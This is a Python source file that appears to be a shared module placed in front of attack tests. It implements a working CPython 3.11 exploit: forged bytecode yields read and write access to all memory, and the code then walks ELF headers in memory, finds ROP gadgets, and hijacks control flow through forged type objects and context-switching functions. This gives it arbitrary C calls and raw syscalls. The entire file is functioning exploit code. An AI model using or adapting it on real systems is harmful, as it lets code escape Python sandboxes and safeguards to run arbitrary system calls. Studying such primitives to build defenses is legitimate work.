# SPDX-License-Identifier: Apache-2.0
# What a compromised interpreter can do: no module, no native code of ours, only CPython 3.11's own trust in its
# bytecode. A LOAD_CONST beyond the constants loads a forged bytearray that begins at address 0: all memory, readable and
# writable. A forged type then calls any function with registers of our choice, the C library's syscall() among them.
# It is put in front of the attacks that need it; nothing in it is to be stopped, what it is used for is.
import opcode as _opcode
import struct as _struct

_kept = []


def _keep(data):
    """Memory that stays where it is; its address."""
    _kept.append(bytes(data))
    return id(_kept[-1]) + 32


def _object_at(address):
    slot = _keep(_struct.pack("<Q", address))
    constants = (None, None)
    index = (slot - id(constants) - 24) // 8 & 0xFFFFFFFF
    op = _opcode.opmap
    code = bytes([op["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([op["EXTENDED_ARG"], index >> shift & 255])
    code += bytes([op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])

    def template():
        return None

    template.__code__ = template.__code__.replace(co_code=code, co_consts=constants, co_stacksize=4)
    return template()


memory = _object_at(_keep(_struct.pack("<QQqqQQq", 1 << 40, id(bytearray), (1 << 63) - 1, (1 << 63) - 1, 0, 0, 0)))


def read(address, size=8):
    return bytes(memory[address:address + size])


def read64(address):
    return _struct.unpack("<Q", memory[address:address + 8])[0]


def write(address, data):
    memory[address:address + len(data)] = data


def write64(address, *values):
    write(address, _struct.pack(f"<{len(values)}Q", *(value & (1 << 64) - 1 for value in values)))


class Library:
    """A loaded library, by its ELF header in memory."""

    def __init__(self, inside):
        base = inside & ~4095
        while read(base, 4) != b"\x7fELF":
            base -= 4096
        self.base = base
        bias = 0 if read(base + 16, 2) == b"\2\0" else base  # a program of fixed addresses names them as they are
        self._bias = bias
        self.segments = []
        tags = {}
        table, count = base + read64(base + 32), _struct.unpack("<H", read(base + 56, 2))[0]
        for place in range(table, table + 56 * count, 56):
            kind, flags, _, address, _, _, size, _ = _struct.unpack("<IIQQQQQQ", read(place, 56))
            if kind == 1:
                self.segments.append((bias + address, size, flags))
            elif kind == 2:
                at = bias + address
                while read64(at):
                    tags[read64(at)] = read64(at + 8)
                    at += 16
        self.tag = {name: (value + base if value < base else value) if name in (3, 5, 6, 7, 23) else value
                    for name, value in tags.items()}
        self.names = read(self.tag[5], self.tag[10])
        self._symbols = None

    def _name(self, offset):
        return self.names[offset:self.names.index(b"\0", offset)].decode()

    def imported(self, name):
        """Address of a function that the library takes from another one."""
        for start, size in ((23, 2), (7, 8)):
            for place in range(self.tag.get(start, 0), self.tag.get(start, 0) + self.tag.get(size, 0), 24):
                offset, info, _ = _struct.unpack("<QQq", read(place, 24))
                if info >> 32 and info & 0xFFFFFFFF in (6, 7):
                    if self._name(_struct.unpack("<I", read(self.tag[6] + 24 * (info >> 32), 4))[0]) == name:
                        return read64(self._bias + offset)
        raise LookupError(name)

    def symbol(self, name):
        """Address of a function that the library has."""
        if self._symbols is None:
            table = read(self.tag[6], (self.tag[5] - self.tag[6]) // 24 * 24)
            self._symbols = {}
            for text, _, _, section, value, _ in _struct.iter_unpack("<IBBHQQ", table):
                if section:
                    self._symbols.setdefault(text, value)
        offset = self.names.index(name.encode() + b"\0")
        while offset not in self._symbols:  # the end of a longer name, or not one of its own
            offset = self.names.index(name.encode() + b"\0", offset + 1)
        return self._bias + self._symbols[offset]

    def code(self, pattern):
        """Address of these bytes among executable ones, or 0."""
        for address, size, flags in self.segments:
            if flags & 1:
                place = read(address, size).find(pattern)
                if place >= 0:
                    return address + place
        return 0


def _gadget(pattern):
    for library in (libc, libpython):
        found = library.code(pattern)
        if found:
            return found
    raise LookupError(pattern.hex())


def _library_with(name):
    """The library that has a function, among those that libpython takes functions from."""
    for other in ("malloc", "free", "strlen", "memchr", "stdout", "getpid"):  # slots of what was called before are bound
        try:
            library = Library(libpython.imported(other))
            library.symbol(name)
            return library
        except (LookupError, ValueError):
            continue
    raise LookupError(name)


libpython = Library(read64(id(int) + 48))
libc = _library_with("swapcontext")
_STORE, _POP_RDI, _POP_RAX = (_gadget(bytes.fromhex(text)) for text in ("4889035bc3", "5fc3", "58c3"))
_getcontext, _swapcontext, _setcontext = (libc.symbol(name) for name in ("getcontext", "swapcontext", "setcontext"))
_syscall = libc.symbol("syscall")

_type = _keep(bytes(1024))
_sequence = _keep(bytes(256))
_new = _keep(bytes(2048)) + 15 & ~15
_old = _keep(bytes(2048)) + 15 & ~15
_stack = (_keep(bytes(262144)) + 131072) & ~15
_answer = _keep(bytes(8))
write64(_type, 1 << 40, id(type))
write64(_type + 24, _keep(b"forged\0"), 4096)
write64(_type + 104, _sequence)
for _one in (_new, _old):
    write64(_one, 1 << 40, _type)
_new_object, _old_object = _object_at(_new), _object_at(_old)
write64(_type + 120, _getcontext)
hash(_new_object)
write64(_sequence + 40, _swapcontext)


def run_chain(rip, registers, *stack):
    """Jump to rip with these registers; the stack's last return must be to what is put behind it. What rbx points at."""
    top = _stack + 8
    for name, value in registers.items():
        write64(_new + {"r8": 40, "r9": 48, "rdi": 104, "rsi": 112, "rdx": 136, "rcx": 152}[name], value)
    write64(_new + 128, _answer)
    write64(_new + 160, top, rip)
    write64(top, *stack, _STORE, 0, _POP_RDI, _old, _setcontext)
    write64(_answer, 0)
    write64(_old, 1 << 40, _type)
    try:
        del _old_object[_new]
    except SystemError:
        pass
    return _struct.unpack("<q", memory[_answer:_answer + 8])[0]


def call(function, *arguments):
    """Call a C function with up to six whole numbers."""
    registers = dict(zip(("rdi", "rsi", "rdx", "rcx", "r8", "r9"), arguments))
    return run_chain(function, registers)


_errno = call(libc.symbol("__errno_location"))


def syscall(number, a=0, b=0, c=0, d=0, e=0, f=0):
    """A system call; its result, or the negative error number."""
    for place, value in ((104, number), (112, a), (136, b), (152, c), (40, d), (48, e)):
        write64(_new + place, value)
    top = _stack + 8
    write64(_new + 128, _answer)
    write64(_new + 160, top, _syscall)
    write64(top, _STORE, f, _POP_RDI, _old, _setcontext)
    write64(_old, 1 << 40, _type)
    try:
        del _old_object[_new]
    except SystemError:
        pass
    result = _struct.unpack("<q", memory[_answer:_answer + 8])[0]
    if result == -1:
        return -_struct.unpack("<i", memory[_errno:_errno + 4])[0]
    return result


def buffer(size):
    """Writable memory at a fixed place, zeroed; its address."""
    return _keep(bytes(size))


def text(value):
    """A zero-terminated text in memory; its address."""
    return _keep(value.encode() + b"\0")
